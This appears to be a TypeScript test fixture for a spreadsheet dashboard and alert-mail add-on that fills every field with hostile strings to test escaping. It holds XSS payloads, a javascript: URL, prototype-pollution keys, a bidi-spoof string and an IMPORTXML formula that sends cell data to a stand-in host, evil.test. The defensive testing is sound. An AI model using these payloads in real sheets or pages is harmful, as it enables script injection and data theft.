import type { Alerts } from "../../../src/calls/alerts.ts";
import type { Candidate, Dashboard } from "../../../src/calls/dashboard.ts";
import type { MetricChoice } from "../../../src/calls/metric-choice.ts";
import type { FakeStart } from "../fake-add-on.ts";
import { dealsSource, sample } from "../sample.ts";
import { around, backTest, waiting } from "./alerts.ts";
import { deals } from "./candidates.ts";
import { choices } from "./choices.ts";
import { below, ruleOn } from "./rules.ts";
import { nowMs, tiles } from "./tiles.ts";

/** What anybody may write into a cell or a setting. */
export const names = [
  `<img src=x onerror="window.hacked=1">`,
  "</script><script>window.hacked=1</script>",
  '=IMPORTXML(CONCAT("http://evil.test/?";A1);"//a")',
  "\u202eevil\u202c مبيعات الشركة",
  "🏷️👩‍👩‍👧‍👦💸",
  "Sütun".repeat(60),
  "W".repeat(300),
  "",
  "constructor",
  "__proto__",
  "javascript:window.hacked=1",
] as const;

const name = (at: number): string => names[at % names.length] ?? "";
const all = names.join(" ");

export const hostileCandidate: Candidate = {
  ...deals,
  sheetName: name(5),
  columns: names.map((header) => ({ header, samples: names.slice(0, 3).concat(name(6)) })),
  guess: { outcome: name(0), customer: name(5), amount: name(2), region: name(3) },
  unrecognised: names.slice(6),
};

const hostileTiles: Dashboard["tiles"] = tiles.map((tile, at) => ({
  ...tile,
  name: name(at),
  definition: all,
  family: name(at),
  ...(at % 2 === 0 && { value: null, problem: all }),
  rules:
    at === 1
      ? [
          {
            value: ruleOn(tile.metric, below(0.3), {
              id: "hostile0",
              scope: { kind: "each", by: "owner" },
              recipients: [{ address: "ada@example.com", language: "auto" }],
            }),
            revision: "h1",
          },
        ]
      : [],
  alert: at === 1 ? "alerting" : "off",
  ...(tile.own !== null && {
    own: {
      ...tile.own,
      value: { ...tile.own.value, name: name(1), sheetName: name(6), cell: "B7" },
    },
  }),
}));

const hostileChoices: readonly MetricChoice[] = choices.map((choice, at) => ({
  ...choice,
  name: name(at),
  also: [...names],
  definition: all,
  familyName: name(at),
}));

const hostileMails: FakeStart["answers"] = {
  alerts: {
    ...around,
    readyMade: around.readyMade.map((one, at) => ({ ...one, name: name(at), about: all })),
    log: names.map((label, at) => ({
      ...(around.log[0] as Alerts["log"][number]),
      name: name(at + 1),
      label,
      to: [...names],
    })),
    waiting: waiting.map((one, at) => ({ ...one, name: name(at), label: name(at + 5), to: [...names] })),
    health: { ...around.health, setAside: [...names] },
    addressColumns: names.map((header) => ({ table: "people", header, samples: [...names] })),
  },
  toldAs: (rule) => ({
    ...rule,
    name: all,
    problem: all,
    groups: names.map((label) => ({ label, state: "alerting", sinceMs: nowMs })),
  }),
  backTest: () => ({
    ...backTest,
    mails: names.map((label) => ({ at: label, notices: [{ label, reason: "fired", value: 1e300 }] })),
  }),
  sampleMail: {
    to: name(6),
    subject: name(0),
    text: all,
    html: `<title>untouched</title><h1>Mail</h1><script>parent.hacked=1;document.title="run"</script>
<img src="x" onerror="parent.hacked=1"><a href="javascript:parent.hacked=1" target="_top">Open</a><a href="http://evil.test/" id="away">Away</a>`,
  },
};

/** A file in which every text is hostile. */
export const hostile: FakeStart = {
  user: name(0),
  candidates: [hostileCandidate, { ...hostileCandidate, sheetId: 8, sheetName: name(0), kind: null }],
  sources: [
    {
      ...dealsSource({ amount: name(1), outcome: name(0) }),
      problem: all,
      gone: ["amount"],
      offered: ["region"],
    },
  ],
  view: {
    period: { unit: "month", back: 0 },
    filters: [
      { by: "owner", value: name(6) },
      { by: "region", value: name(0) },
    ],
  },
  filterOptions: [
    { by: "owner", values: [...names], more: 12 },
    { by: "region", values: [...names], more: 0 },
  ],
  tiles: hostileTiles,
  sample: name(6),
  history: { ...sample.history, sheet: name(0) },
  settingsProblems: [...names],
  trigger: { ...sample.trigger, mine: false, owner: name(6), lastProblem: all },
  answers: {
    ...hostileMails,
    choices: hostileChoices,
    selectedCell: { sheetId: 3, sheetName: name(6), cell: "B7", text: name(0), value: null },
  },
};
